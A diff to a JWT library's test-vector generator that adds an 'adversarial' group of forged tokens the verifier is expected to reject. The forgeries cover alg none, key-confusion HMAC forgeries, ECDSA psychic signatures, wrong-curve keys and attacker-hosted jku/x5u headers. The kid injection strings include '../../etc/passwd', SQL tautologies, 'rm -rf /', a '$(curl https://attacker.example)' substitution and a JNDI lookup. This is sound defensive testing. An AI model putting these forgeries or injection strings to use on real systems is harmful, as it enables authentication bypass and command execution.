@@ -6,6 +6,7 @@ How to run (from the repository root, Python 3.11):
     python3 -m venv .venv
     .venv/bin/pip install -r tests/vectors/requirements.txt
     .venv/bin/python tests/vectors/generate.py
+    .venv/bin/python tests/vectors/generate.py --only adversarial   # just these group(s)
 
 What it does:
 
@@ -17,6 +18,8 @@ What it does:
   objects or `cryptography` directly.
 * All group folders are deleted and rewritten on each run. HS*, RS*, EdDSA cases are byte-for-byte
   deterministic; ES* and PS* signatures are randomised and change between runs (that is expected).
+* `--only adversarial` (comma-separated group names, e.g. `--only adversarial,crit`) builds and rewrites only
+  those groups' folders and leaves every other folder as it is, so adding a group does not re-sign the rest.
 * Before writing, each case is cross-checked: success cases must verify with PyJWT/cryptography and decode to
   the expected claims; `invalid_signature` cases must fail with them. A summary (cases per group) is printed.
 
@@ -1889,6 +1892,544 @@ def g_decode():
          token_repeat={"prefix": "", "fill": ".", "count": 16384})
 
 
+def g_adversarial():
+    """One case per known JWT attack class not already covered by another group.
+
+    The README's "Adversarial cases" table maps every class to its cases, here and in the other groups. Each
+    description starts with the bug class in brackets and cites the RFC section or CVE it comes from.
+    """
+    g = "adversarial"
+    c = base_claims()
+    hs = {"alg": "HS256", "typ": "JWT"}
+    t0 = pyjwt(c)
+    h0, p0, s0 = split(t0)
+    s32 = SECRET["s32"]
+    n256 = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551
+    n384 = int("FFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFFC7634D81F4372DDF581A0DB248B0A77AECEC196ACCC52973", 16)
+
+    def mac(secret, header=hs, claims=c, alg="HS256") -> str:
+        """An HS* token MACed with `secret` by Python's hmac module: PyJWT refuses PEM/JWK text as a secret, and
+        the attacker in these cases does not use a JWT library either."""
+        secret = secret.encode("utf-8") if isinstance(secret, str) else secret
+        signing_input = b64u(as_bytes(header)) + "." + b64u(as_bytes(claims))
+        digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
+        return signing_input + "." + b64u(hmac_mod.new(secret, signing_input.encode(), digest).digest())
+
+    def crlf(text: str) -> str:
+        return text.replace("\n", "\r\n")
+
+    # --- alg none in every casing (RFC 7519 §6, RFC 8725 §2.1/§3.1; CVE-2015-9235, CVE-2022-23540) ---------
+    covered = {"none", "None", "NONE", "nOnE"}  # algorithms/alg-none, -capitalised, -uppercase, -mixed-case
+    for bits in range(16):
+        variant = "".join(ch.upper() if bits >> (3 - i) & 1 else ch for i, ch in enumerate("none"))
+        if variant in covered:
+            continue
+        upper = "-".join(str(i + 1) for i in range(4) if bits >> (3 - i) & 1)
+        err(g, f"alg-none-upper-{upper}", f"[alg none] an unsecured token with alg {variant!r} (letters {upper} "
+            "upper-case) is never accepted, whatever the casing (RFC 7519 §6, RFC 8725 §3.1; CVE-2015-9235)",
+            "algorithm_not_allowed", build(dict(hs, alg=variant), c, sig=b""))
+    err(g, "alg-none-every-algorithm-allowed", "[alg none] alg 'none' against an allow-list holding every "
+        "implemented algorithm: none is never part of it (RFC 8725 §3.1)", "algorithm_not_allowed",
+        build(dict(hs, alg="none"), c, sig=b""), options=opts(list(IMPLEMENTED)))
+    err(g, "alg-none-with-jwks", "[alg none] alg 'none' with a kid against a key set (CVE-2022-23540: a "
+        "verifier that finds no key must not fall back to 'none')", "algorithm_not_allowed",
+        build({"alg": "none", "kid": "h1"}, c, sig=b""),
+        key=k_jwks(oct_jwk(s32, kid="h1")), options=opts(["HS256", "RS256"]))
+    err(g, "alg-none-nul-suffix", "[alg none] 'none\\u0000' (a C-string comparison would see 'none')",
+        "algorithm_not_allowed", build(dict(hs, alg="none\u0000"), c, sig=b""))
+
+    # --- algorithm confusion: the public key text as an HMAC secret, verifier side --------------------------
+    # RFC 8725 §2.1/§3.1; CVE-2015-9235 (jsonwebtoken), CVE-2016-10555 (jwt-simple), CVE-2017-11424 (PyJWT,
+    # PKCS#1 form), CVE-2022-29217 (PyJWT, SSH form), CVE-2024-33663 (python-jose, EC keys).
+    rsa_spki = PEM[("rsa2048", "spki")]
+    rsa_pkcs1 = PEM[("rsa2048", "pub-pkcs1")]
+    rsa_cert = PEM[("rsa2048", "cert")]
+    ec_spki = PEM[("p256", "spki")]
+    ed_spki = PEM[("ed25519", "spki")]
+    rsa_jwk_text = json.dumps(JWK_PUB["rsa2048"])
+    variants = [
+        # name, HMAC secret the attacker used, the verifier's key (the same text where it is a PEM), asym alg
+        ("rsa-spki-no-trailing-newline", rsa_spki.rstrip("\n"), {"pem": rsa_spki.rstrip("\n")}, "RS256",
+         "the SPKI PEM without its final newline"),
+        ("rsa-spki-crlf", crlf(rsa_spki), {"pem": crlf(rsa_spki)}, "RS256", "the SPKI PEM with CRLF line ends"),
+        ("rsa-spki-leading-space", " " + rsa_spki, {"pem": " " + rsa_spki}, "RS256",
+         "the SPKI PEM after a space"),
+        ("rsa-spki-leading-newlines", "\n\n" + rsa_spki, {"pem": "\n\n" + rsa_spki}, "RS256",
+         "the SPKI PEM after blank lines"),
+        ("rsa-spki-bom", "\ufeff" + rsa_spki, {"pem": "\ufeff" + rsa_spki}, "RS256",
+         "the SPKI PEM after a UTF-8 BOM"),
+        ("rsa-spki-bom-crlf", "\ufeff" + crlf(rsa_spki), {"pem": "\ufeff" + crlf(rsa_spki)}, "RS256",
+         "the SPKI PEM with BOM and CRLF"),
+        ("rsa-pkcs1-public", rsa_pkcs1, {"pem": rsa_pkcs1}, "RS256",
+         "the PKCS#1 'RSA PUBLIC KEY' PEM (CVE-2017-11424)"),
+        ("rsa-pkcs1-public-crlf", crlf(rsa_pkcs1), {"pem": crlf(rsa_pkcs1)}, "RS256",
+         "the PKCS#1 PEM with CRLF"),
+        ("rsa-certificate", rsa_cert, {"pem": rsa_cert}, "RS256", "the X.509 certificate PEM"),
+        ("rsa-certificate-bom-crlf", "\ufeff" + crlf(rsa_cert), {"pem": "\ufeff" + crlf(rsa_cert)}, "RS256",
+         "the certificate PEM with BOM and CRLF"),
+        ("rsa-jwk-text", rsa_jwk_text, k_jwk("rsa2048"), "RS256", "the RSA JWK as compact JSON text"),
+        ("rsa-jwk-text-pretty-crlf", crlf(json.dumps(JWK_PUB["rsa2048"], indent=2) + "\n"), k_jwk("rsa2048"),
+         "RS256", "the RSA JWK as indented JSON with CRLF"),
+        ("rsa-jwk-text-bom-whitespace", "\ufeff \n" + rsa_jwk_text, k_jwk("rsa2048"), "RS256",
+         "the RSA JWK JSON after a BOM and whitespace"),
+        ("rsa-ssh-line", SSH["rsa2048"], {"pem": rsa_spki}, "RS256",
+         "the key's OpenSSH 'ssh-rsa' line (CVE-2022-29217)"),
+        ("ec-spki", ec_spki, {"pem": ec_spki}, "ES256", "the P-256 SPKI PEM (CVE-2024-33663)"),
+        ("ec-spki-crlf-leading-tab", "\t" + crlf(ec_spki), {"pem": "\t" + crlf(ec_spki)}, "ES256",
+         "the P-256 SPKI PEM after a tab, with CRLF"),
+        ("ec-jwk-text", json.dumps(JWK_PUB["p256"]), k_jwk("p256"), "ES256", "the P-256 JWK as JSON text"),
+        ("ed25519-spki", ed_spki, {"pem": ed_spki}, "EdDSA", "the Ed25519 SPKI PEM"),
+        ("ed25519-jwk-text", json.dumps(JWK_PUB["ed25519"]), k_jwk("ed25519"), "EdDSA",
+         "the Ed25519 JWK as JSON text"),
+    ]
+    for name, secret, key, asym, why in variants:
+        tok = mac(secret)
+        err(g, f"confusion-{name}-both-allowed", f"[algorithm confusion] an HS256 token MACed with {why} as the "
+            f"secret, verified with that public key and algorithms [{asym}, HS256]: an asymmetric key never "
+            "serves an HS* token (RFC 8725 §3.1; CVE-2016-10555)", "invalid_key", tok, key=key,
+            options=opts([asym, "HS256"]))
+        err(g, f"confusion-{name}-{asym.lower()}-only", f"[algorithm confusion] the same forged HS256 token "
+            f"({why} as the secret) against algorithms [{asym}]: the allow-list refuses it first "
+            "(RFC 8725 §3.1)", "algorithm_not_allowed", tok, key=key, options=opts(asym))
+    err(g, "confusion-rsa-spki-hs512-both-allowed", "[algorithm confusion] HS512 instead of HS256, MACed with "
+        "the SPKI PEM, algorithms [RS256, HS512] (RFC 8725 §3.1)", "invalid_key",
+        mac(rsa_spki, header={"alg": "HS512", "typ": "JWT"}, alg="HS512"), key={"pem": rsa_spki},
+        options=opts(["RS256", "HS512"]))
+    conf_kid = mac(rsa_spki, header={"alg": "HS256", "kid": "rsa-a", "typ": "JWT"})
+    err(g, "confusion-jwks-kid-names-rsa-key", "[algorithm confusion] an HS256 token MACed with the SPKI PEM "
+        "whose kid names the RSA key of a JWKS: that key cannot serve HS256, so there is no key (RFC 8725 §3.1)",
+        "key_not_found", conf_kid, key=k_jwks(jwk_of("rsa2048", kid="rsa-a"), oct_jwk(s32, kid="h1")),
+        options=opts(["RS256", "HS256"]))
+    err(g, "confusion-jwks-no-kid-only-oct-key-fits", "[algorithm confusion] the same forgery without kid "
+        "against a JWKS of the RSA key and an oct key: only the oct key is a candidate, and the MAC is not its "
+        "(RFC 8725 §3.1)", "invalid_signature", mac(rsa_spki),
+        key=k_jwks(jwk_of("rsa2048", kid="rsa-a"), oct_jwk(s32, kid="h1")), options=opts(["RS256", "HS256"]))
+
+    # --- key text refused as an HMAC secret at construction (forms not already in key/hmac-secret-is-*) -------
+    p256_ssh = PRIV["p256"].public_key().public_bytes(
+        serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH).decode() + " test@onejwt"
+    for name, secret, why in [
+        ("rsa-spki-no-trailing-newline", rsa_spki.rstrip("\n"), "the SPKI PEM without its final newline"),
+        ("rsa-spki-leading-crlf", "\r\n" + rsa_spki, "the SPKI PEM after a CRLF"),
+        ("rsa-spki-leading-form-feed", "\f" + rsa_spki, "the SPKI PEM after a form feed"),
+        ("rsa-spki-bom-leading-whitespace", "\ufeff \t\r\n" + rsa_spki, "the SPKI PEM after a BOM and whitespace"),
+        ("rsa-pkcs1-public-bom", "\ufeff" + rsa_pkcs1, "the PKCS#1 public PEM after a BOM"),
+        ("rsa-pkcs1-public-crlf", crlf(rsa_pkcs1), "the PKCS#1 public PEM with CRLF"),
+        ("rsa-pkcs1-private", PEM[("rsa2048", "pkcs1")], "an 'RSA PRIVATE KEY' PEM"),
+        ("ec-sec1-private", PEM[("p256", "sec1")], "an 'EC PRIVATE KEY' PEM"),
+        ("certificate-crlf", crlf(rsa_cert), "the certificate PEM with CRLF"),
+        ("certificate-bom-crlf-leading-space", "\ufeff " + crlf(rsa_cert), "the certificate PEM after BOM and "
+         "space, with CRLF"),
+        ("ssh-ecdsa-line", p256_ssh, "an OpenSSH 'ecdsa-sha2-nistp256' line (CVE-2024-33663)"),
+        ("jwk-json-crlf-pretty", crlf(json.dumps(JWK_PUB["rsa2048"], indent=2) + "\n"), "an indented JWK with CRLF"),
+        ("jwk-json-trailing-newline", rsa_jwk_text + "\n", "JWK JSON with a trailing newline"),
+        ("jwks-json", json.dumps({"keys": [JWK_PUB["rsa2048"]]}), "a whole JWKS as JSON text"),
+    ]:
+        err(g, f"hmac-secret-is-{name}", f"[algorithm confusion] {why} is never accepted as an HMAC secret, so a "
+            "public key cannot be turned into one (RFC 8725 §3.1)", "invalid_key", mac(secret), key=k_hmac(secret))
+    for name, secret, why in [
+        ("rsa-spki-pem", rsa_spki, "the SPKI PEM bytes"),
+        ("bom-crlf-cert-pem", "\ufeff" + crlf(rsa_cert), "BOM + CRLF certificate PEM bytes"),
+    ]:
+        err(g, f"hmac-base64url-secret-is-{name}", f"[algorithm confusion] {why} given as a base64url binary "
+            "secret are still key text (RFC 8725 §3.1)", "invalid_key", mac(secret),
+            key={"hmac_base64url": b64u(secret.encode())})
+
+    # --- ECDSA: psychic signatures (CVE-2022-21449), range, encoding, high/low-S ---------------------------
+    def es_parts(alg, key_name, header=None):
+        hdr = header or {"alg": alg, "typ": "JWT"}
+        si = b64u(cjson(hdr)) + "." + b64u(cjson(c))
+        r, s = ecdsa_raw(alg, si.encode(), PRIV[key_name])
+        return si, r, s
+
+    def rs_bytes(r, s, size):
+        return r.to_bytes(size, "big") + s.to_bytes(size, "big")
+
+    si, r, s = es_parts("ES256", "p256")
+    psychic = "[psychic signature] CVE-2022-21449 (Java ECDSA accepted r = s = 0)"
+    err(g, "es256-psychic-r-s-equal-order", f"{psychic}: r = s = n, which is 0 mod n; r and s must be in "
+        "[1, n-1] (FIPS 186-4 §6.4)", "invalid_signature", si + "." + b64u(rs_bytes(n256, n256, 32)),
+        key=k_pem("p256"), options=opts("ES256"))
+    err(g, "es256-psychic-der-zero", f"{psychic}: the DER encoding of (0, 0) (30 06 02 01 00 02 01 00), "
+        "which a DER-accepting verifier would parse (RFC 7518 §3.4 requires raw r||s)", "invalid_signature",
+        si + "." + b64u(encode_dss_signature(0, 0)), key=k_pem("p256"), options=opts("ES256"))
+    err(g, "es256-psychic-jwk-key", f"{psychic}: r = s = 0 with the key given as a JWK", "invalid_signature",
+        si + "." + b64u(bytes(64)), key=k_jwk("p256"), options=opts("ES256"))
+    kid_si, _, _ = es_parts("ES256", "p256", {"alg": "ES256", "kid": "ec-a", "typ": "JWT"})
+    err(g, "es256-psychic-jwks-kid", f"{psychic}: r = s = 0 with a kid selecting the key from a JWKS",
+        "invalid_signature", kid_si + "." + b64u(bytes(64)), key=k_jwks(jwk_of("p256", kid="ec-a")),
+        options=opts("ES256"))
+    err(g, "es256-r-s-swapped", "[ECDSA encoding] s||r instead of r||s (RFC 7518 §3.4)", "invalid_signature",
+        si + "." + b64u(rs_bytes(s, r, 32)), key=k_pem("p256"), options=opts("ES256"))
+    si3, r3, s3 = es_parts("ES384", "p384")
+    for name, rr, ss, why in [("r-zero", 0, s3, "r = 0"), ("s-zero", r3, 0, "s = 0"),
+                              ("r-equals-order", n384, s3, "r = n"), ("s-equals-order", r3, n384, "s = n"),
+                              ("psychic-r-s-equal-order", n384, n384, "r = s = n")]:
+        err(g, f"es384-{name}", f"{psychic}, P-384: {why}; r and s must be in [1, n-1] (FIPS 186-4 §6.4)",
+            "invalid_signature", si3 + "." + b64u(rs_bytes(rr, ss, 48)), key=k_pem("p384"), options=opts("ES384"))
+    err(g, "es384-der-signature", "[ECDSA encoding] an ASN.1 DER ES384 signature instead of raw r||s "
+        "(RFC 7518 §3.4)", "invalid_signature", si3 + "." + b64u(encode_dss_signature(r3, s3)),
+        key=k_pem("p384"), options=opts("ES384"))
+    low = s if s <= n256 // 2 else n256 - s
+    ok(g, "es256-low-s-ok", "[ECDSA malleability] the low-S form (s <= n/2) verifies; together with "
+       "signature/es256-high-s-ok this documents that both s and n-s are accepted (RFC 7518 §3.4 does not "
+       "require low-S)", si + "." + b64u(rs_bytes(r, low, 32)), key=k_pem("p256"), options=opts("ES256"))
+    ok(g, "es256-high-s-jwk-ok", "[ECDSA malleability] the high-S form (s > n/2) verifies with a JWK key too",
+       si + "." + b64u(rs_bytes(r, n256 - low, 32)), key=k_jwk("p256"), options=opts("ES256"))
+    low3 = s3 if s3 <= n384 // 2 else n384 - s3
+    ok(g, "es384-low-s-ok", "[ECDSA malleability] the low-S ES384 form verifies (RFC 7518 §3.4)",
+       si3 + "." + b64u(rs_bytes(r3, low3, 48)), key=k_pem("p384"), options=opts("ES384"))
+
+    # --- wrong curve for alg (RFC 7518 §3.4: ES256 is P-256 + SHA-256, ES384 is P-384 + SHA-384) -------------
+    t_es256 = pyjwt(c, "ES256")
+    t_es384 = pyjwt(c, "ES384")
+    zero = b64u(bytes(32))
+    for name, tok, alg, jwk_dict, why in [
+        ("jwk-crv-p256-with-secp256k1-point", t_es256, "ES256", dict(JWK_PUB["secp256k1"], crv="P-256"),
+         "a secp256k1 point relabelled crv P-256 (not on P-256)"),
+        ("jwk-crv-p256-with-p384-coordinates", t_es256, "ES256", dict(JWK_PUB["p384"], crv="P-256"),
+         "48-byte P-384 coordinates under crv P-256"),
+        ("jwk-crv-p384-with-p256-coordinates", t_es384, "ES384", dict(JWK_PUB["p256"], crv="P-384"),
+         "32-byte P-256 coordinates under crv P-384"),
+        ("jwk-ec-point-zero", t_es256, "ES256", dict(JWK_PUB["p256"], x=zero, y=zero),
+         "the point (0, 0), not on the curve (invalid-curve attack)"),
+        ("jwk-p256-alg-es384-member", t_es384, "ES384", jwk_of("p256", alg="ES384"),
+         "a P-256 key whose JWK claims alg ES384"),
+        ("jwk-ed448-relabelled-ed25519", pyjwt(c, "EdDSA"), "EdDSA", dict(JWK_PUB["ed448"], crv="Ed25519"),
+         "a 57-byte Ed448 key relabelled crv Ed25519"),
+    ]:
+        err(g, f"wrong-curve-{name}", f"[wrong curve] {why}: refused as a key for {alg} (RFC 7518 §3.4, §6.2.1)",
+            "invalid_key", tok, key=k_jwk(jwk_dict), options=opts(alg))
+    k1_hdr = {"alg": "ES256", "typ": "JWT"}
+    k1_si = b64u(cjson(k1_hdr)) + "." + b64u(cjson(c))
+    k1_r, k1_s = ecdsa_raw("ES256", k1_si.encode(), PRIV["secp256k1"])
+    err(g, "wrong-curve-es256-signed-on-secp256k1", "[wrong curve] an 'ES256' header over a secp256k1 (ES256K) "
+        "signature, verified with the P-256 key (RFC 7518 §3.4, RFC 8812 §3.2)", "invalid_signature",
+        k1_si + "." + b64u(rs_bytes(k1_r, k1_s, 32)), key=k_pem("p256"), options=opts("ES256"))
+
+    # --- embedded key headers: jwk / jku / x5u / x5c / x5t (RFC 8725 §3.10; CVE-2018-0114) ------------------
+    ra = jwk_of("rsa2048", kid="rsa-a")
+    cert_b_pem = PEM[("rsa2048-b", "cert")]
+    cert_b = "".join(cert_b_pem.splitlines()[1:-1])
+    cert_b_der = x509.load_pem_x509_certificate(cert_b_pem.encode()).public_bytes(serialization.Encoding.DER)
+    emb = "[embedded key] CVE-2018-0114 (node-jose trusted an embedded jwk), RFC 8725 §3.10"
+    for name, extra, key, code, why in [
+        ("x5c-keyset-kid", {"kid": "rsa-a", "x5c": [cert_b]}, k_jwks(ra), "invalid_signature",
+         "an attacker certificate chain in x5c with the victim's kid"),
+        ("x5u-keyset-kid", {"kid": "rsa-a", "x5u": "https://attacker.example/cert.pem"}, k_jwks(ra),
+         "invalid_signature", "an attacker x5u URL with the victim's kid"),
+        ("x5t-keyset-kid", {"kid": "rsa-a", "x5t": b64u(hashlib.sha1(cert_b_der).digest()),
+                            "x5t#S256": b64u(hashlib.sha256(cert_b_der).digest())}, k_jwks(ra),
+         "invalid_signature", "x5t / x5t#S256 thumbprints of the attacker certificate"),
+        ("jwk-no-kid-keyset", {"jwk": JWK_PUB["rsa2048-b"]}, k_jwks(ra), "invalid_signature",
+         "an embedded jwk and no kid against a one-key JWKS"),
+        ("jwk-own-kid-keyset", {"kid": "attacker", "jwk": jwk_of("rsa2048-b", kid="attacker")}, k_jwks(ra),
+         "key_not_found", "an embedded jwk carrying its own kid, which is not in the JWKS"),
+        ("all-key-headers", {"jwk": JWK_PUB["rsa2048-b"], "jku": "https://attacker.example/jwks.json",
+                             "x5u": "https://attacker.example/cert.pem", "x5c": [cert_b],
+                             "x5t#S256": b64u(hashlib.sha256(cert_b_der).digest())}, k_pem("rsa2048"),
+         "invalid_signature", "jwk, jku, x5u, x5c and x5t#S256 all at once"),
+    ]:
+        err(g, f"embedded-{name}", f"{emb}: {why}; the token, signed by the attacker key, is checked against "
+            "the configured keys only", code, pyjwt(c, "RS256", "rsa2048-b", headers=extra), key=key,
+            options=opts("RS256"))
+    attacker_secret = "attacker-chosen-secret-32-bytes!"
+    emb_oct = mac(attacker_secret, header={"alg": "HS256", "jwk": oct_jwk(attacker_secret), "typ": "JWT"})
+    err(g, "embedded-jwk-oct-vs-rsa-key", f"{emb}: an HS256 token MACed with an attacker secret embedded as an "
+        "oct jwk, against an RSA verifier allowing [RS256, HS256]", "invalid_key", emb_oct, key=k_pem("rsa2048"),
+        options=opts(["RS256", "HS256"]))
+    err(g, "embedded-jwk-oct-vs-hmac-key", f"{emb}: the same token against an HS256 verifier with its own "
+        "secret", "invalid_signature", emb_oct)
+    err(g, "embedded-jwk-ec-keyset-kid", f"{emb}: ES256 signed by another P-256 key embedded as jwk with the "
+        "victim's kid", "invalid_signature",
+        pyjwt(c, "ES256", "p256-b", headers={"kid": "ec-a", "jwk": JWK_PUB["p256-b"]}),
+        key=k_jwks(jwk_of("p256", kid="ec-a")), options=opts("ES256"))
+    err(g, "embedded-jwk-eddsa", f"{emb}: EdDSA signed by another Ed25519 key embedded as jwk", "invalid_signature",
+        pyjwt(c, "EdDSA", "ed25519-b", headers={"jwk": JWK_PUB["ed25519-b"]}), key=k_pem("ed25519"),
+        options=opts("EdDSA"))
+
+    # --- kid injection strings (RFC 8725 §3.10: kid must not reach SQL/LDAP/file lookups unchecked) --------
+    kid_set = k_jwks(oct_jwk(s32, kid="h1"), ra)
+    kid_opts = opts(["HS256", "RS256"])
+    kid_cases = [
+        ("path-traversal-etc-passwd", "../../etc/passwd", s32, "a path traversal"),
+        ("path-traversal-dev-null", "../../../../../../dev/null", b"",
+         "the classic /dev/null traversal, MACed with the empty secret an empty file would give"),
+        ("path-traversal-to-real-kid", "keys/../h1", s32, "a path that normalises to the real kid"),
+        ("dot-slash-real-kid", "./h1", s32, "'./' before the real kid"),
+        ("absolute-path", "/h1", s32, "an absolute path"),
+        ("windows-path", "..\\..\\h1", s32, "a Windows-style traversal"),
+        ("percent-encoded", "%2e%2e%2fh1", s32, "a percent-encoded traversal"),
+        ("sql-or-1-1", "' OR 1=1 --", s32, "a SQL tautology"),
+        ("sql-tautology-on-real-kid", "h1' OR '1'='1", s32, "a SQL tautology after the real kid"),
+        ("sql-union-select", "x' UNION SELECT 'onejwt-test-hs256-secret-32bytes' --", s32,
+         "a SQL UNION returning the secret"),
+        ("nul-only", "\u0000", s32, "a lone NUL character"),
+        ("nul-truncation", "h1\u0000", s32, "the real kid followed by NUL (a C string would end there)"),
+        ("nul-then-suffix", "h1\u0000.pem", s32, "the real kid, NUL, then a file suffix"),
+        ("trailing-space", "h1 ", s32, "the real kid with a trailing space"),
+        ("leading-space", " h1", s32, "the real kid with a leading space"),
+        ("trailing-newline", "h1\n", s32, "the real kid with a trailing newline"),
+        ("case-differs", "H1", s32, "the real kid in another case"),
+        ("fullwidth", "\uff48\uff11", s32, "the real kid in fullwidth letters (NFKC-equal, not equal)"),
+        ("empty-string", "", s32, "an empty kid"),
+        ("wildcard", "*", s32, "a wildcard"),
+        ("regex", ".*", s32, "a regular expression"),
+        ("command-injection", "h1; rm -rf / #", s32, "shell metacharacters"),
+        ("command-substitution", "$(curl https://attacker.example)", s32, "a shell command substitution"),
+        ("jndi-lookup", "${jndi:ldap://attacker.example/a}", s32, "a JNDI lookup string (Log4Shell)"),
+        ("ldap-filter", "*)(uid=*))(|(uid=*", s32, "an LDAP filter injection"),
+        ("url", "https://attacker.example/jwks.json", s32, "an attacker URL"),
+        ("very-long", "k" * 8000, s32, "an 8000-character kid"),
+        ("very-long-real-kid-prefix", "h1" + "x" * 8000, s32, "the real kid followed by 8000 characters"),
+    ]
+    for name, kid, secret, why in kid_cases:
+        err(g, f"kid-{name}", f"[kid injection] kid {why}: only an exact match selects a key, never a crash or a "
+            "partial match (RFC 8725 §3.10, RFC 7515 §4.1.4)", "key_not_found",
+            mac(secret, header={"alg": "HS256", "kid": kid, "typ": "JWT"}), key=kid_set, options=kid_opts,
+            unsure="empty-string kid: treated as a kid that matches nothing (key_not_found), not as no kid"
+            if kid == "" else None)
+    ok(g, "kid-json-escaped-real-kid-ok", "[kid injection] kid written as JSON escapes '\\u0068\\u0031' is the "
+       "string 'h1' after decoding (RFC 8259 §7), so it selects that key", mac(
+           s32, header=b'{"alg":"HS256","kid":"\\u0068\\u0031","typ":"JWT"}'), key=kid_set, options=kid_opts)
+
+    # --- crit variants (RFC 7515 §4.1.11) ------------------------------------------------------------------
+    def crit_tok(hdr):
+        return build(dict(hs, **hdr), c)
+
+    for name, hdr, why in [
+        ("object", {"crit": {"b64": True}, "b64": True}, "crit as an object"),
+        ("empty-string-entry", {"crit": [""]}, "crit holding an empty name"),
+        ("registered-kid", {"crit": ["kid"], "kid": "k1"}, "crit listing the registered name kid"),
+        ("registered-typ", {"crit": ["typ"]}, "crit listing typ"),
+        ("b64-and-exp", {"crit": ["b64", "exp"], "b64": False, "exp": 1}, "crit [b64, exp] with both present"),
+        ("many-entries", dict({"crit": [f"x{i}" for i in range(200)]}, **{f"x{i}": i for i in range(200)}),
+         "200 crit entries, all present"),
+    ]:
+        err(g, f"crit-{name}", f"[crit] {why}: a crit this verifier does not understand makes the token invalid "
+            "(RFC 7515 §4.1.11)", "malformed", crit_tok(hdr))
+    err(g, "crit-escaped-member-name", "[crit] crit ['x'] with the member written as '\\u0078' (RFC 7515 "
+        "§4.1.11)", "malformed", mac(s32, header=b'{"alg":"HS256","crit":["x"],"\\u0078":1}'))
+    cc = base_claims(crit=["exp"])
+    ok(g, "crit-in-claims-ok", "[crit] a claim named crit is an ordinary private claim: crit is a header "
+       "parameter (RFC 7515 §4.1.11)", pyjwt(cc))
+
+    # --- b64:false, unencoded payload (RFC 7797 §3, §5) --------------------------------------------------
+    b64h = b64u(cjson({"alg": "HS256", "b64": False, "crit": ["b64"]}))
+
+    def unencoded(payload: str, shown: str | None = None) -> str:
+        sig = hmac_mod.new(s32.encode(), (b64h + "." + payload).encode(), hashlib.sha256).digest()
+        return b64h + "." + (payload if shown is None else shown) + "." + b64u(sig)
+
+    b64f = "[b64:false] RFC 7797 unencoded payloads are not supported"
+    err(g, "b64-false-detached-payload", f"{b64f}: the RFC 7797 §4.2 example payload '$.02' detached "
+        "(RFC 7515 Appendix F: empty middle segment), MACed over the raw payload; the empty payload is already "
+        "refused by the structure check", "malformed", unencoded("$.02", ""))
+    err(g, "b64-false-payload-with-dots", f"{b64f}: the raw payload '$.02' in place (RFC 7797 §5.2: it then "
+        "contains a '.')", "malformed", unencoded("$.02"))
+    err(g, "b64-false-raw-json-payload", f"{b64f}: raw JSON claims as the middle segment", "malformed",
+        unencoded('{"sub":"admin"}'))
+    as_b64 = b64u(cjson({"sub": "admin"}))
+    err(g, "b64-false-payload-reads-as-base64url", f"{b64f}: the raw payload is itself base64url text, so a "
+        "verifier that ignored b64 would accept the same bytes as {\"sub\":\"admin\"}", "malformed",
+        unencoded(as_b64))
+    err(g, "b64-false-alg-none", f"{b64f}; with alg none the allow-list decides first", "algorithm_not_allowed",
+        build({"alg": "none", "b64": False, "crit": ["b64"]}, c, sig=b""))
+
+    # --- claim type confusion (RFC 7519 §2 NumericDate, §4.1) ---------------------------------------------
+    def raw_claims(body: bytes) -> str:
+        return resign(h0, b64u(body))
+
+    for name, value, why in [
+        ("exp-nan-string", "NaN", "exp 'NaN' (JSON has no NaN; the string is not a number)"),
+        ("exp-infinity-string", "Infinity", "exp 'Infinity' as a string"),
+        ("exp-empty-string", "", "exp as an empty string"),
+        ("exp-exponent-string", "1.7e9", "exp as a numeric string with an exponent"),
+        ("exp-hex-string", "0x6553f100", "exp as a hexadecimal string"),
+        ("exp-array-of-null", [None], "exp as [null]"),
+        ("nbf-nan-string", "NaN", "nbf 'NaN'"),
+        ("iat-infinity-string", "Infinity", "iat 'Infinity'"),
+    ]:
+        claim = name.split("-")[0]
+        err(g, f"type-{name}", f"[claim type confusion] {why}: {claim} must be a JSON number (RFC 7519 §2)",
+            "invalid_claim", pyjwt(dict(c, **{claim: value})))
+    for name, body, why in [
+        ("exp-nan-literal", b'{"sub":"u","exp":NaN}', "the NaN literal is not JSON (RFC 8259 §6)"),
+        ("exp-infinity-literal", b'{"sub":"u","exp":Infinity}', "the Infinity literal is not JSON"),
+        ("exp-1e400", b'{"sub":"u","exp":1e400}', "exp 1e400 overflows a double (RFC 8259 §6: out of range)"),
+        ("exp-minus-1e400", b'{"sub":"u","exp":-1e400}', "exp -1e400 overflows a double"),
+        ("nbf-1e400", b'{"sub":"u","nbf":1e400}', "nbf 1e400"),
+        ("iat-1e400", b'{"sub":"u","iat":1e400}', "iat 1e400"),
+    ]:
+        err(g, f"type-{name}", f"[claim type confusion] {why}: the payload is refused as malformed, as "
+            "structure/payload-number-overflow does for any member", "malformed", raw_claims(body))
+    for name, claims, opts_, why in [
+        ("iss-object", dict(c, iss={"value": "https://issuer.example"}), opts(issuer="https://issuer.example"),
+         "iss as an object"),
+        ("iss-array-vs-issuer-list", dict(c, iss=["https://a.example"]),
+         opts(issuer=["https://a.example", "https://b.example"]), "iss as an array against an issuer list"),
+        ("iss-boolean", dict(c, iss=True), opts(), "iss true"),
+        ("sub-object", dict(c, sub={"id": 1}), opts(), "sub as an object"),
+        ("aud-empty-array-no-audience-option", dict(c, aud=[]), opts(), "aud [] without an audience option"),
+        ("aud-numeric-entry-no-audience-option", dict(c, aud=[1]), opts(), "aud [1] without an audience option"),
+        ("aud-number-vs-configured-numeric-string", dict(c, aud=1), opts(audience="1"),
+         "aud 1 against the configured audience '1' (a loose comparison would match)"),
+        ("aud-numeric-entries-vs-configured-string", dict(c, aud=[1, 2]), opts(audience="1"),
+         "aud [1, 2] against '1'"),
+        ("aud-array-with-null", dict(c, aud=["api", None]), opts(audience="api"), "aud ['api', null]"),
+        ("aud-boolean", dict(c, aud=True), opts(audience="api"), "aud true"),
+    ]:
+        err(g, f"type-{name}", f"[claim type confusion] {why}: iss/sub must be strings and aud a string or an "
+            "array of strings (RFC 7519 §4.1.1-§4.1.3)", "invalid_claim", build(hs, claims), options=opts_)
+    ok(g, "type-exp-1e308-ok", "[claim type confusion] exp 1e308 is a finite JSON number far in the future: "
+       "accepted, not overflowed into the past (RFC 7519 §2)", raw_claims(b'{"sub":"u","exp":1e308}'),
+       claims={"sub": "u", "exp": 1e308},
